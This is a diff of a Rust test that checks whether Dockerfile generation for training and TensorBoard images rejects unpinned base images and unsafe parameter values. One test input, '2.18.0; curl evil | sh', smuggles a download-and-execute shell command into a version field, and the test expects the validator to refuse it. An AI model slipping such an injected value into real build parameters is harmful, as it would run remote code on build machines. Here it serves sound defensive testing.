@@ -124,8 +124,10 @@ fn rejects_unpinned_or_unsafe_values() {
         "{error}"
     );
 
-    let mut image = TrainingImage::default();
-    image.base_image = "public.ecr.aws/lts/ubuntu:22.04_stable".to_owned();
+    let image = TrainingImage {
+        base_image: "public.ecr.aws/lts/ubuntu:22.04_stable".to_owned(),
+        ..TrainingImage::default()
+    };
     assert!(
         image
             .dockerfile()
@@ -134,8 +136,10 @@ fn rejects_unpinned_or_unsafe_values() {
             .contains("pin the base image by digest")
     );
 
-    let mut image = TensorboardImage::default();
-    image.tensorboard_version = "2.18.0; curl evil | sh".to_owned();
+    let image = TensorboardImage {
+        tensorboard_version: "2.18.0; curl evil | sh".to_owned(),
+        ..TensorboardImage::default()
+    };
     let error = image.dockerfile().unwrap_err();
     assert!(
         matches!(&error, crate::Error::InvalidParameter { parameter, .. } if parameter == "tensorboard_version"),
